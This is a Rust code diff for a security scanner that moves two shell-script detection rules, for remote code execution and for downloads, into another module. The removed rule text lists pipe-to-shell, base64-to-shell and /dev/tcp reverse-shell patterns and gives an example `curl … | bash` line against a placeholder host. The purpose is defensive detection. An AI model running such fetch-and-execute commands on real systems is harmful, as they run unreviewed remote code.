@@ -4,41 +4,8 @@
 use crate::finding::{abbreviate, Location};
 use crate::rule::Rule;
 use crate::scan::ScanCtx;
-use crate::severity::Severity;
 
-/// Remote code execution from a script.
-pub static SHELL_REMOTE_EXEC: Rule = Rule {
-    id: "shell-remote-exec",
-    severity: Severity::High,
-    summary: "A shell command runs downloaded or encoded code, or opens a reverse shell.",
-    docs: r#"
-## Why it matters
-`curl … | sh`, `bash <(wget …)`, `base64 -d | sh` and `/dev/tcp` redirections run code
-that is not in the repository, or hide what they run. A model repository's setup script
-has no reason to do this.
-
-## Example
-`curl -fsSL https://example.invalid/install.sh | bash`
-
-## What to do
-Do not run the script. Download what it fetches, read it, and pin it by hash.
-"#,
-};
-
-/// A download in a script.
-pub static SHELL_DOWNLOAD: Rule = Rule {
-    id: "shell-download",
-    severity: Severity::Low,
-    summary: "A shell command downloads files (`curl`, `wget`).",
-    docs: r#"
-## Why it matters
-Downloads fetch content that is not part of the reviewed repository and may change at
-any time.
-
-## What to do
-Check what is fetched and pin it by hash.
-"#,
-};
+pub use crate::formats::repo::rules::{SHELL_DOWNLOAD, SHELL_REMOTE_EXEC};
 
 /// Rules of the shell scanner.
 pub const RULES: &[&Rule] = &[&SHELL_REMOTE_EXEC, &SHELL_DOWNLOAD];
